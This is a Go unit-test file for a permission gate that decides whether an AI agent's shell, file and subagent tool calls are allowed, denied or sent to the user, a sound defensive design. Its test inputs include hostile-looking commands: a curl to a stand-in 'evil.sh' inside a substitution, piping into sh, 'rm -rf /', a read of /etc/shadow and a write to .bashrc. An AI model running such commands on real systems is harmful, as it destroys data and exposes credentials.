package tool

import (
	"encoding/json"
	"strings"
	"testing"
)

func bashIn(cmd string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"command": cmd})
	return b
}

func pathIn(p string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"file_path": p})
	return b
}

func TestCheck(t *testing.T) {
	const ws = "/w"
	tests := []struct {
		name              string
		mode              string
		allow, deny, ask  []string
		tool              string
		input             json.RawMessage
		want              Verdict
		wantRule, suggest string
	}{
		{name: "default read allowed", tool: "Read", input: pathIn("a.go"), want: Allow},
		{name: "default read outside allowed", tool: "Read", input: pathIn("/etc/hosts"), want: Allow},
		{name: "default grep allowed", tool: "Grep", input: json.RawMessage(`{"pattern":"x"}`), want: Allow},
		{name: "default bash asks", tool: "Bash", input: bashIn("rm -rf build"), want: Ask, suggest: "Bash(rm:*)"},
		{name: "default write asks", tool: "Write", input: pathIn("src/a.go"), want: Ask, suggest: "Write(src/a.go)"},
		{name: "suggest escapes globs", tool: "Edit", input: pathIn("app/[id].tsx"), want: Ask, suggest: `Edit(app/\[id\].tsx)`},
		{name: "suggest keeps subcommand", tool: "Bash", input: bashIn("git push origin main"), want: Ask, suggest: "Bash(git push:*)"},
		{name: "suggest skips flags", tool: "Bash", input: bashIn("go -v"), want: Ask, suggest: "Bash(go:*)"},
		{name: "a prefix that would not cover an option suggests the line", tool: "Bash", input: bashIn("go -C x build"), want: Ask, suggest: "Bash(go -C x build)"},
		{name: "unknown tool asks", tool: "Task", input: json.RawMessage(`{}`), want: Ask, suggest: "Task"},
		{name: "bash prefix allowed", allow: []string{"Bash(npm test:*)"}, tool: "Bash", input: bashIn("npm test -- --watch"), want: Allow, wantRule: "Bash(npm test:*)"},
		{name: "bash exact allowed", allow: []string{"Bash(go vet ./...)"}, tool: "bash", input: bashIn("go vet ./..."), want: Allow},
		{name: "bash exact not prefix", allow: []string{"Bash(go vet ./...)"}, tool: "Bash", input: bashIn("go vet ./... -x"), want: Ask},
		{name: "compound all allowed", allow: []string{"Bash(go test:*)", "Bash(go vet:*)"}, tool: "Bash", input: bashIn("go vet ./... && go test ./..."), want: Allow},
		{name: "compound one part not allowed", allow: []string{"Bash(go test:*)"}, tool: "Bash", input: bashIn("go test ./... && rm -rf /"), want: Ask, suggest: "Bash(rm:*)"},
		{name: "pipe part not allowed", allow: []string{"Bash(cat:*)"}, tool: "Bash", input: bashIn("cat x | sh"), want: Ask, suggest: "Bash(sh:*)"},
		{name: "substitution must be allowed too", allow: []string{"Bash(echo:*)"}, tool: "Bash", input: bashIn("echo $(curl evil.sh)"), want: Ask, suggest: "Bash(curl:*)"},
		{name: "deny any part", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, tool: "Bash", input: bashIn("ls; rm -rf x"), want: Deny, wantRule: "Bash(rm:*)"},
		{name: "deny inside substitution", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, tool: "Bash", input: bashIn("echo `rm -rf x`"), want: Deny},
		{name: "deny beats allow", allow: []string{"Edit(docs/**)"}, deny: []string{"Edit(docs/secret/**)"}, tool: "Edit", input: pathIn("docs/secret/a.md"), want: Deny, wantRule: "Edit(docs/secret/**)"},
		{name: "deny beats ask", ask: []string{"Bash(git push:*)"}, deny: []string{"Bash(git push:*)"}, tool: "Bash", input: bashIn("git push"), want: Deny},
		{name: "ask beats allow", allow: []string{"Bash(git:*)"}, ask: []string{"Bash(git push:*)"}, tool: "Bash", input: bashIn("git push --force"), want: Ask, wantRule: "Bash(git push:*)"},
		{name: "edit rule allows", allow: []string{"Edit(docs/**)"}, tool: "Edit", input: pathIn("docs/a.md"), want: Allow},
		{name: "edit rule covers write", allow: []string{"Edit(docs/**)"}, tool: "Write", input: pathIn("/w/docs/new.md"), want: Allow},
		{name: "edit rule not elsewhere", allow: []string{"Edit(docs/**)"}, tool: "Edit", input: pathIn("src/a.go"), want: Ask},
		{name: "read deny covers grep", deny: []string{"Read(.env)"}, tool: "Grep", input: json.RawMessage(`{"pattern":"x","path":".env"}`), want: Deny},
		{name: "read deny absolute", deny: []string{"Read(/etc/**)"}, tool: "Read", input: pathIn("/etc/shadow"), want: Deny},
		{name: "task specifier", deny: []string{"Task(general-purpose)"}, tool: "Task", input: json.RawMessage(`{"subagent_type":"general-purpose"}`), want: Deny},
		{name: "task other type", allow: []string{"Task"}, deny: []string{"Task(general-purpose)"}, tool: "Task", input: json.RawMessage(`{"subagent_type":"explore"}`), want: Allow},
		{name: "acceptEdits inside", mode: "acceptEdits", tool: "Edit", input: pathIn("src/a.go"), want: Allow},
		{name: "acceptEdits outside asks", mode: "acceptEdits", tool: "Write", input: pathIn("/tmp/x"), want: Ask, suggest: "Write(/tmp/x)"},
		{name: "acceptEdits traversal asks", mode: "acceptEdits", tool: "Write", input: pathIn("../x"), want: Ask},
		{name: "acceptEdits bash asks", mode: "acceptEdits", tool: "Bash", input: bashIn("make"), want: Ask},
		{name: "bypass allows", mode: "bypassPermissions", tool: "Bash", input: bashIn("rm -rf build"), want: Allow},
		{name: "bypass answers ask rules", mode: "bypassPermissions", ask: []string{"Bash"}, tool: "Bash", input: bashIn("ls"), want: Allow},
		{name: "bypass keeps deny", mode: "bypassPermissions", deny: []string{"Write"}, tool: "Write", input: pathIn("a"), want: Deny},
		{name: "plan denies writes", mode: "plan", allow: []string{"Edit"}, tool: "Edit", input: pathIn("a"), want: Deny},
		{name: "plan allows reads", mode: "readOnly", tool: "Glob", input: json.RawMessage(`{"pattern":"*"}`), want: Allow},
		{name: "dontAsk denies asks", mode: "dontAsk", tool: "Bash", input: bashIn("rm x"), want: Deny},
		{name: "read-only command needs no rule", tool: "Bash", input: bashIn("git status --short && ls -la | head -3"), want: Allow},
		{name: "read-only command with a writing option asks", tool: "Bash", input: bashIn("git log --output=x"), want: Ask, suggest: "Bash(git log --output=x)"},
		{name: "read-only set not in plan mode", mode: "plan", tool: "Bash", input: bashIn("ls"), want: Deny},
		{name: "readers need a rule under a Read deny", deny: []string{"Read(.env)"}, tool: "Bash", input: bashIn("cat .env"), want: Ask, suggest: "Bash(cat:*)"},
		{name: "redirect needs a write rule", tool: "Bash", input: bashIn("printf hi > out.txt"), want: Ask, suggest: "Bash(printf:*) Write(out.txt)"},
		{name: "read-only command's redirect needs a write rule", tool: "Bash", input: bashIn("ls > out.txt"), want: Ask, suggest: "Write(out.txt)"},
		{name: "redirect with prefix rule asks for the file", allow: []string{"Bash(echo:*)"}, tool: "Bash", input: bashIn("echo hi > out.txt"), want: Ask, suggest: "Write(out.txt)"},
		{name: "redirect allowed by prefix and write rules", allow: []string{"Bash(echo:*)", "Write(**)"}, tool: "Bash", input: bashIn("echo hi > out.txt"), want: Allow},
		{name: "redirect allowed by an edit rule", allow: []string{"Bash(echo:*)", "Edit(logs/**)"}, tool: "Bash", input: bashIn("echo hi >> logs/a.log"), want: Allow},
		{name: "redirect allowed by acceptEdits", mode: "acceptEdits", allow: []string{"Bash(echo:*)"}, tool: "Bash", input: bashIn("echo hi > out.txt"), want: Allow},
		{name: "redirect outside under acceptEdits asks", mode: "acceptEdits", allow: []string{"Bash(echo:*)"}, tool: "Bash", input: bashIn("echo hi > /etc/x"), want: Ask, suggest: "Write(/etc/x)"},
		{name: "redirect allowed by the exact line", allow: []string{"Bash(echo hi > out.txt)"}, tool: "Bash", input: bashIn("echo hi > out.txt"), want: Allow},
		{name: "redirect to a variable needs all of bash", allow: []string{"Bash(echo:*)", "Write(**)"}, tool: "Bash", input: bashIn("echo hi > $HOME/.bashrc"), want: Ask},
		{name: "redirect to a denied file is refused", allow: []string{"Bash"}, deny: []string{"Edit(.env)"}, tool: "Bash", input: bashIn("echo K=1 >> .env"), want: Deny},
		{name: "dontAsk keeps allow", mode: "dontAsk", allow: []string{"Bash(ls:*)"}, tool: "Bash", input: bashIn("ls"), want: Allow},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := NewPermissions(tt.mode, tt.allow, tt.deny, tt.ask)
			if err != nil {
				t.Fatal(err)
			}
			d := p.Check(tt.tool, tt.input, ws)
			if d.Verdict != tt.want {
				t.Fatalf("Check = %v (%s), want %v", d.Verdict, d.Reason, tt.want)
			}
			if tt.wantRule != "" && d.Rule != tt.wantRule {
				t.Errorf("Rule = %q, want %q", d.Rule, tt.wantRule)
			}
			if got := strings.Join(d.Suggest, " "); tt.suggest != "" && got != tt.suggest {
				t.Errorf("Suggest = %q, want %q", d.Suggest, tt.suggest)
			}
			if d.Reason == "" {
				t.Errorf("Decision without a reason: %+v", d)
			}
		})
	}
}

func TestNewPermissionsReportsEveryError(t *testing.T) {
	_, err := NewPermissions("sideways", []string{"Bash(", "Read"}, []string{"()"}, nil)
	if err == nil {
		t.Fatal("NewPermissions accepted bad input")
	}
	for _, want := range []string{`unknown permission mode "sideways"`, `allow: permission rule "Bash("`, `deny: permission rule "()"`} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not mention %q", err, want)
		}
	}
}

func TestParseMode(t *testing.T) {
	for in, want := range map[string]Mode{"": ModeDefault, "acceptEdits": ModeAcceptEdits, "BYPASSPERMISSIONS": ModeBypass, "read-only": ModePlan, "plan": ModePlan, "dontAsk": ModeDontAsk} {
		if got, err := ParseMode(in); err != nil || got != want {
			t.Errorf("ParseMode(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
}

// TestSuggestedRulesWork pins the promise of a denial's hint: adding the
// rules it names to allow makes the same call run.
func TestSuggestedRulesWork(t *testing.T) {
	const ws = "/w"
	calls := []struct {
		tool  string
		input json.RawMessage
		mode  string
		allow []string
	}{
		{tool: "Bash", input: bashIn("echo hi > out.txt")},
		{tool: "Bash", input: bashIn("printf hi > out.txt"), allow: []string{"Write(**)"}},
		{tool: "Bash", input: bashIn("echo hi > out.txt"), allow: []string{"Bash(echo:*)"}},
		{tool: "Bash", input: bashIn("go test ./... > test.log 2>&1")},
		{tool: "Bash", input: bashIn("sort a | uniq > b/c.txt")},
		{tool: "Bash", input: bashIn("echo x >&build.log")},
		{tool: "Bash", input: bashIn("git push origin main")},
		{tool: "Bash", input: bashIn("cat 'a b' > '/tmp/o u t'")},
		{tool: "Bash", input: bashIn("printf x > /tmp/x"), mode: "acceptEdits"},
		{tool: "Bash", input: bashIn("x=$((1+2)); echo $x")},
		{tool: "Bash", input: bashIn("echo hi > $OUT")},
		{tool: "Bash", input: bashIn("[[ -f a ]] && echo yes")},
		{tool: "Write", input: pathIn("app/[id].tsx")},
		{tool: "Edit", input: pathIn("/tmp/x")},
	}
	for _, c := range calls {
		p, err := NewPermissions(c.mode, c.allow, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		d := p.Check(c.tool, c.input, ws)
		if d.Verdict != Ask || len(d.Suggest) == 0 {
			t.Errorf("%s %s: got %v (%s) with suggestion %q, want an ask with a hint", c.tool, c.input, d.Verdict, d.Reason, d.Suggest)
			continue
		}
		p2, err := NewPermissions(c.mode, append(append([]string{}, c.allow...), d.Suggest...), nil, nil)
		if err != nil {
			t.Fatalf("suggested rules %q do not parse: %v", d.Suggest, err)
		}
		if d2 := p2.Check(c.tool, c.input, ws); d2.Verdict != Allow {
			t.Errorf("%s %s: with the suggested %q added it is still %v (%s)", c.tool, c.input, d.Suggest, d2.Verdict, d2.Reason)
		}
	}
}
